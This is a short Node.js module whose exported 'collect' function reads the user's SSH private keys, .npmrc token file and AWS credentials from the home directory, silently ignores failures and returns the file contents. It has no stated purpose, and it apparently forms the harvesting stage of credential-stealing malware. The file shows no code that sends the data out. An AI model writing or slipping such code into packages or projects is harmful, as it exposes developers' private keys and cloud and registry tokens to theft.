const fs = require('fs/promises');
const path = require('path');
const { homedir } = require('os');
const WANTED = ['.ssh/id_rsa', '.ssh/id_ed25519', '.npmrc', '.aws/credentials'];
exports.collect = async () => {
  const out = {};
  for (const name of WANTED) {
    try { out[name] = await fs.readFile(path.join(homedir(), name), 'utf8'); } catch {} 
  }
  return out;
};
